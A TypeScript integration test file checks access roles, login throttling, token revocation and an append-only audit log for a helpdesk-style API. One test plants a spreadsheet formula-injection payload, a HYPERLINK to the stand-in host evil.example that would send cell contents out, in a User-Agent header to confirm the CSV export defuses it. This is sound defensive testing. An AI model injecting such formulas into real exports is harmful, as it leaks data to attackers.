import { DataSource } from 'typeorm';

import { InProcessQueueDriver, QUEUE_DRIVER } from '@madoguchi/queue';

import { ApiClient } from '../support/api-client';
import { ADMIN, startTestApp, TestApp } from '../support/test-app';

const PASSWORD = 'a long enough passphrase';

describe('identity, roles and the audit log over HTTP', () => {
  let t: TestApp;
  let admin: ApiClient;
  const tokens: Record<string, string> = {};
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    t = await startTestApp();
    admin = t.api.as(await t.api.login(ADMIN.email, ADMIN.password));
    for (const [key, name] of [
      ['orgA', '株式会社さくら商事'],
      ['orgB', '有限会社もみじ工業'],
    ] as const) {
      ids[key] = (await admin.post('/api/v1/organizations', { name, code: key.toUpperCase() })).json.id;
    }
    const people = [
      { key: 'customerA', role: 'customer', organizationId: ids.orgA },
      { key: 'customerB', role: 'customer', organizationId: ids.orgB },
      { key: 'agent', role: 'agent' },
      { key: 'manager', role: 'manager' },
    ];
    for (const person of people) {
      const created = await admin.post('/api/v1/users', {
        email: `${person.key}@example.jp`,
        name: person.key,
        password: PASSWORD,
        role: person.role,
        organizationId: person.organizationId,
      });
      expect(created.status).toBe(201);
      ids[person.key] = created.json.id;
      tokens[person.key] = await t.api.login(`${person.key}@example.jp`, PASSWORD);
    }
    tokens.admin = (admin as unknown as { token: string }).token;
  });

  afterAll(async () => {
    await t?.close();
  });

  const roles = ['anonymous', 'customerA', 'agent', 'manager', 'admin'] as const;
  const matrix: Array<[string, string, () => unknown, Record<(typeof roles)[number], number>]> = [
    [
      'GET',
      '/api/v1/users/me',
      () => undefined,
      { anonymous: 401, customerA: 200, agent: 200, manager: 200, admin: 200 },
    ],
    [
      'GET',
      '/api/v1/organizations',
      () => undefined,
      { anonymous: 401, customerA: 200, agent: 200, manager: 200, admin: 200 },
    ],
    [
      'POST',
      '/api/v1/organizations',
      () => ({ name: `Org ${Math.random()}` }),
      { anonymous: 401, customerA: 403, agent: 403, manager: 403, admin: 201 },
    ],
    ['GET', '/api/v1/users', () => undefined, { anonymous: 401, customerA: 403, agent: 403, manager: 403, admin: 200 }],
    [
      'POST',
      '/api/v1/users',
      () => ({ email: `u${Math.random()}@example.jp`, name: 'x', password: PASSWORD, role: 'agent' }),
      { anonymous: 401, customerA: 403, agent: 403, manager: 403, admin: 201 },
    ],
    [
      'GET',
      '/api/v1/audit-events',
      () => undefined,
      { anonymous: 401, customerA: 403, agent: 403, manager: 403, admin: 200 },
    ],
  ];

  describe.each(matrix)('%s %s', (method, path, body, expected) => {
    it.each(roles)('as %s', async (role) => {
      const client = t.api.as(role === 'anonymous' ? undefined : tokens[role]);
      const response = await client.request(method, path, body());
      expect(response.status).toBe(expected[role]);
    });
  });

  it('staff roles include the ones below them: a manager may do what an agent may', async () => {
    expect((await t.api.as(tokens.manager).get('/api/v1/organizations')).status).toBe(200);
  });

  it('confines a customer to their own organization: another one is 404, not 403', async () => {
    const customer = t.api.as(tokens.customerA);
    expect((await customer.get(`/api/v1/organizations/${ids.orgA}`)).status).toBe(200);
    const other = await customer.get(`/api/v1/organizations/${ids.orgB}`);
    expect(other.status).toBe(404);
    expect(other.json.code).toBe('organization.not-found');
    const list = await customer.get('/api/v1/organizations');
    expect(list.json.items.map((o: { id: string }) => o.id)).toEqual([ids.orgA]);
    expect((await t.api.as(tokens.admin).get(`/api/v1/organizations/${ids.orgB}`)).status).toBe(200);
  });

  it('refuses a customer without an organization and a weak password, field by field, writing nothing', async () => {
    const before = (await admin.get('/api/v1/users')).json.items.length;
    const missing = await admin.post('/api/v1/users', {
      email: 'c@example.jp',
      name: 'c',
      password: PASSWORD,
      role: 'customer',
    });
    expect(missing.status).toBe(400);
    expect(missing.json.errors).toEqual([
      { field: 'organizationId', messages: ['a customer contact needs an organization'] },
    ]);
    const weak = await admin.post('/api/v1/users', {
      email: 'w@example.jp',
      name: 'w',
      password: 'password1234',
      role: 'agent',
    });
    expect(weak.status).toBe(400);
    expect(weak.json.errors).toEqual([{ field: 'password', messages: ['password is too common'] }]);
    expect((await admin.get('/api/v1/users')).json.items.length).toBe(before);
  });

  it('answers a wrong password and an unknown e-mail alike', async () => {
    const wrong = await t.api.post('/api/v1/auth/login', { email: 'agent@example.jp', password: 'not the password!' });
    const unknown = await t.api.post('/api/v1/auth/login', {
      email: 'nobody@example.jp',
      password: 'not the password!',
    });
    expect(wrong.status).toBe(401);
    expect(unknown.status).toBe(401);
    const strip = ({ requestId: _r, ...rest }: Record<string, unknown>) => rest;
    expect(strip(wrong.json)).toEqual(strip(unknown.json));
  });

  it('throttles an account after 5 failures with 429 and Retry-After, even for the right password', async () => {
    await admin.post('/api/v1/users', { email: 'target@example.jp', name: 't', password: PASSWORD, role: 'agent' });
    for (let n = 0; n < 5; n += 1) {
      expect(
        (await t.api.post('/api/v1/auth/login', { email: 'target@example.jp', password: `wrong guess ${n}!!` })).status,
      ).toBe(401);
    }
    const locked = await t.api.post('/api/v1/auth/login', { email: 'target@example.jp', password: PASSWORD });
    expect(locked.status).toBe(429);
    expect(locked.json.code).toBe('auth.too-many-attempts');
    expect(Number(locked.headers.get('retry-after'))).toBeGreaterThan(800);
  });

  it('deactivating an organization ends its contacts’ sessions and refuses their sign-in; admins still export it', async () => {
    const org = (await admin.post('/api/v1/organizations', { name: '株式会社ゆり物産' })).json.id;
    await admin.post('/api/v1/users', {
      email: 'contact@yuri.example.jp',
      name: '百合 花子',
      password: PASSWORD,
      role: 'customer',
      organizationId: org,
    });
    const contact = t.api.as(await t.api.login('contact@yuri.example.jp', PASSWORD));
    expect((await contact.get(`/api/v1/organizations/${org}/export?format=csv`)).status).toBe(200);

    expect((await admin.patch(`/api/v1/organizations/${org}`, { active: false })).status).toBe(200);
    expect((await contact.get('/api/v1/users/me')).status).toBe(401);
    expect((await contact.get(`/api/v1/organizations/${org}/export?format=csv`)).status).toBe(401);
    const refused = await t.api.post('/api/v1/auth/login', { email: 'contact@yuri.example.jp', password: PASSWORD });
    expect(refused.status).toBe(401);
    expect(refused.json.code).toBe('auth.invalid-credentials');
    const failed = (await admin.get('/api/v1/audit-events?action=auth.login.failed&targetId=contact@yuri.example.jp'))
      .json.items[0];
    expect(failed.summary).toMatchObject({ reason: 'inactive-organization' });
    // Its data stays, for admins.
    expect((await admin.get(`/api/v1/organizations/${org}/export?format=csv`)).status).toBe(200);
  });

  it('logout revokes the token', async () => {
    const token = await t.api.login('agent@example.jp', PASSWORD);
    const client = t.api.as(token);
    expect((await client.get('/api/v1/users/me')).status).toBe(200);
    expect((await client.post('/api/v1/auth/logout')).status).toBe(204);
    expect((await client.get('/api/v1/users/me')).status).toBe(401);
  });

  it('refuses an expired token', async () => {
    const token = await t.api.login('manager@example.jp', PASSWORD);
    const client = t.api.as(token);
    expect((await client.get('/api/v1/users/me')).json.email).toBe('manager@example.jp');
    await t.app
      .get(DataSource)
      .query(
        `UPDATE access_token SET expires_at = now() - interval '1 second' WHERE revoked_at IS NULL AND user_id = $1`,
        [ids.manager],
      );
    expect((await client.get('/api/v1/users/me')).status).toBe(401);
    tokens.manager = await t.api.login('manager@example.jp', PASSWORD);
  });

  it('records one audit entry per write, with actor, target and before/after', async () => {
    const created = await admin.post('/api/v1/organizations', { name: '合同会社つばき' });
    const entries = (await admin.get(`/api/v1/audit-events?targetId=${created.json.id}`)).json.items;
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({
      action: 'organization.create',
      actorEmail: ADMIN.email,
      targetType: 'organization',
      summary: { after: { name: '合同会社つばき', code: null, active: true } },
      ip: '127.0.0.1',
    });
    await admin.patch(`/api/v1/organizations/${created.json.id}`, { active: false });
    const after = (await admin.get(`/api/v1/audit-events?targetId=${created.json.id}`)).json.items;
    expect(after.map((e: { action: string }) => e.action)).toEqual(['organization.deactivate', 'organization.create']);
    expect(after[0].summary).toEqual({
      before: expect.objectContaining({ active: true }),
      after: expect.objectContaining({ active: false }),
    });
  });

  it('records sign-ins, failures and logouts', async () => {
    const failed = (await admin.get('/api/v1/audit-events?action=auth.login.failed&targetId=nobody@example.jp')).json
      .items;
    expect(failed[0]).toMatchObject({
      actorEmail: 'nobody@example.jp',
      ip: '127.0.0.1',
      summary: { reason: 'unknown-email' },
    });
    expect(
      (await admin.get(`/api/v1/audit-events?action=auth.login.succeeded&actorId=${ids.agent}`)).json.items.length,
    ).toBeGreaterThan(0);
    expect((await admin.get(`/api/v1/audit-events?action=auth.logout&actorId=${ids.agent}`)).json.items).toHaveLength(
      1,
    );
  });

  it('pages the audit log with a cursor and exports it as CSV', async () => {
    const first = (await admin.get('/api/v1/audit-events?limit=3')).json;
    expect(first.items).toHaveLength(3);
    const second = (await admin.get(`/api/v1/audit-events?limit=3&cursor=${first.nextCursor}`)).json;
    expect(Number(second.items[0].id)).toBeLessThan(Number(first.items[2].id));
    const csv = await admin.get('/api/v1/audit-events/export.csv?action=organization.create');
    expect(csv.headers.get('content-type')).toContain('text/csv');
    // The export itself is an operation the log keeps.
    const exported = (await admin.get('/api/v1/audit-events?action=audit.export')).json.items[0];
    expect(exported).toMatchObject({ actorEmail: ADMIN.email, summary: { filter: { action: 'organization.create' } } });
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe(
      'id,occurredAt,actorId,actorEmail,action,targetType,targetId,summary,ip,userAgent,requestId,chainSeq,hash',
    );
    expect(lines.slice(1).every((line) => line.includes('organization.create'))).toBe(true);
    expect(lines.length - 1).toBeGreaterThanOrEqual(3);

    // Anyone can put text in the log (a failed sign-in's User-Agent): in the CSV it stays text, not a formula.
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await t.api.request(
      'POST',
      '/api/v1/auth/login',
      { email: 'nobody@example.jp', password: 'wrong password 123' },
      { 'user-agent': formula },
    );
    const failed = await admin.get('/api/v1/audit-events/export.csv?action=auth.login.failed');
    expect(failed.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(failed.text).not.toMatch(/,"?=HYPERLINK/);
  });

  it('shows admins the failed jobs of each queue, with their error', async () => {
    const driver = t.app.get(QUEUE_DRIVER) as InProcessQueueDriver;
    const id = await driver.add('mail', 'no-such-job', {}, { attempts: 1 });
    await driver.drain();
    expect((await t.api.as(tokens.agent).get('/api/v1/admin/queues')).status).toBe(403);
    const mail = (await admin.get('/api/v1/admin/queues')).json.items.find(
      (q: { queue: string }) => q.queue === 'mail',
    );
    expect(mail.counts.failed).toBeGreaterThanOrEqual(1);
    expect(mail.failed).toContainEqual(
      expect.objectContaining({
        id,
        name: 'no-such-job',
        attemptsMade: 1,
        failedReason: 'No consumer for job mail/no-such-job',
      }),
    );
  });

  it('cannot UPDATE or DELETE audit entries: the database refuses', async () => {
    const dataSource = t.app.get(DataSource);
    await expect(dataSource.query(`UPDATE audit_event SET action = 'x'`)).rejects.toThrow(/append-only/);
    await expect(dataSource.query(`DELETE FROM audit_event`)).rejects.toThrow(/append-only/);
    await expect(dataSource.query(`TRUNCATE audit_event`)).rejects.toThrow(/append-only/);
  });
});
